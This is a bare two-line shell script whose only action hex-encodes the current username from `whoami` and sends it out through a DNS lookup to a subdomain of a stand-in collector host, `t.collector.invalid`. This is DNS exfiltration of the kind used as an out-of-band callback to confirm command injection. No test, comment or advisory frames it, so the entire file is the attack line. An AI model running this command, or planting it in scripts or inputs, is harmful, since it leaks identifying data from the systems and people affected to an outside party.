#!/bin/sh
nslookup "$(whoami | xxd -p).t.collector.invalid" >/dev/null
